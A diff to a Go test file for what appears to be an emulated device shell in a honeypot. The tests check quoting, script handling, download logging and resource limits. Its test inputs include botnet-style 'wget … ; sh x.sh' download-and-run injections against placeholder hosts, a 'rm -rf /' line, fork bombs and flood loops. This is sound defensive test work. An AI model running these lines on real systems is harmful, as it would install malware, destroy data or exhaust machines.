@@ -4,6 +4,7 @@ import (
 	"context"
 	"strings"
 	"testing"
+	"time"
 )
 
 func newTestDevice(t *testing.T, p Profile, lim Limits) *Device {
@@ -99,7 +100,13 @@ func TestShellAPIStates(t *testing.T) {
 	if r := sh.Run(`echo "a`); !r.Continue || len(r.Output) != 0 || sh.Prompt() != "> " {
 		t.Fatalf("open quote: %+v prompt %q", r, sh.Prompt())
 	}
-	if r := sh.Run(`b"`); r.Continue || string(r.Output) != "a\nb\n" || sh.Prompt() != "~ # " {
+	if !sh.Waiting() {
+		t.Fatal("not waiting inside a quote")
+	}
+	if r := sh.Run(""); !r.Continue { // a blank line inside the quote
+		t.Fatalf("blank line: %+v", r)
+	}
+	if r := sh.Run(`b"`); r.Continue || string(r.Output) != "a\n\nb\n" || sh.Prompt() != "~ # " || sh.Waiting() {
 		t.Fatalf("closed quote: %+v prompt %q", r, sh.Prompt())
 	}
 
@@ -139,5 +146,85 @@ func TestShellAPIStates(t *testing.T) {
 	}
 	if l, _ := EditLine("rm -rf /\x03ls", ""); l != "ls" {
 		t.Errorf("^C then ls: %q", l)
+	}
+}
+
+// TestRunScript: a transport without a prompt (a web form) runs text as
+// sh -c does: an unfinished line is a syntax error, a here-document ends
+// with the text.
+func TestRunScript(t *testing.T) {
+	d := newTestDevice(t, DefaultProfile(), Limits{})
+	sh := d.NewShell(context.Background())
+	defer sh.Close()
+	if r := sh.RunScript(`echo "open`); r.Continue || string(r.Output) != "sh: syntax error: unterminated quoted string\n" {
+		t.Errorf("open quote: %+v", r)
+	}
+	if r := sh.RunScript("cat <<EOF\nbody"); string(r.Output) != "body\n" {
+		t.Errorf("here-document to the end: %q", r.Output)
+	}
+	// A syntax error runs nothing; the URL is still intel, not run.
+	r := sh.RunScript(";cd /tmp; wget http://192.0.2.5/x.sh; sh x.sh")
+	if len(r.Downloads) != 1 || r.Downloads[0].Ran || !strings.HasPrefix(string(r.Output), "sh: syntax error") {
+		t.Errorf("leading ; : %+v", r)
+	}
+	r = sh.RunScript("cd /tmp; wget http://192.0.2.5/x.sh; sh x.sh")
+	if len(r.Downloads) != 1 || r.Downloads[0].URL != "http://192.0.2.5/x.sh" || sh.Waiting() {
+		t.Errorf("injection: %+v", r)
+	}
+}
+
+// A URL written with an expansion is recorded once, expanded.
+func TestURLWithExpansion(t *testing.T) {
+	sh := newTestDevice(t, DefaultProfile(), Limits{}).NewShell(context.Background())
+	defer sh.Close()
+	r := sh.Run("cd /tmp; wget http://192.0.2.7/bins/x.$(uname -m)")
+	if len(r.Downloads) != 1 || r.Downloads[0].URL != "http://192.0.2.7/bins/x.armv5tejl" {
+		t.Fatalf("downloads %+v", r.Downloads)
+	}
+}
+
+// TestHostileLinesBounded: lines built to cost the most with the new
+// features (recursion, nested scripts, pattern expansions, here-documents
+// in loops, floods) each finish quickly with bounded output.
+func TestHostileLinesBounded(t *testing.T) {
+	d := newTestDevice(t, DefaultProfile(), Limits{})
+	long := strings.Repeat("a", 4000)
+	for _, l := range []string{
+		"f() { f; }; f",
+		"f() { f & f; }; f",
+		"g() { sh -c 'g'; g; }; g",
+		`sh -c "sh -c \"sh -c 'sh -c \\\"while :; do :; done\\\"'\""`,
+		"x=" + long + "; y=${x//a/bb}; z=${x%%*a}; echo ${#y}",
+		"x=" + long + "; while :; do y=${x#*a*a*a*a*a*a*a}; done",
+		"while :; do cat <<EOF\n$(echo $(echo x))\nEOF\ndone",
+		"while :; do wget -O /dev/null http://198.51.100.1/$((i=i+1)); done",
+		"echo $((" + strings.Repeat("(", 100) + "1" + strings.Repeat(")", 100) + "))",
+		"yes | awk '{s=s $0} END {print length(s)}'",
+		"yes | sed 's/y/yyyyyyyy/g' | sed 's/y/yyyyyyyy/g' | wc -c",
+		"yes | awk -F'[:,]+' '{print $1}' | wc -l",
+		"yes | sort | uniq -c | xargs echo; yes | xargs sh -c 'yes | xargs sh -c \"yes | xargs echo\"'",
+		"yes | awk '{for(;;) {while (1) x++; a[x]=x}}'",
+		"yes | awk '{a[NR]=$0 $0 $0} END {for (k in a) for (j in a) n++; print n}'",
+		"find / -name '*a*b*c*d*e*' | wc -l; tar cf - / | wc -c",
+		"hexdump -C /dev/zero | od -c | base64 | gzip | gunzip | wc -c",
+		"case " + long + " in *a*a*a*a*a*a*a*b) echo x;; esac",
+	} {
+		sh := d.NewShell(context.Background())
+		start := time.Now()
+		var r Result
+		for _, part := range strings.Split(l, "\n") {
+			r = sh.Run(part)
+		}
+		bound := 3 * time.Second
+		if raceEnabled {
+			bound *= 5
+		}
+		if took := time.Since(start); took > bound {
+			t.Errorf("%.60q took %v", l, took)
+		}
+		if len(r.Output) > maxOutput || len(r.Downloads)+len(r.Floods) > maxDownloads {
+			t.Errorf("%.60q: %d bytes, %d downloads, %d floods", l, len(r.Output), len(r.Downloads), len(r.Floods))
+		}
+		sh.Close()
 	}
 }
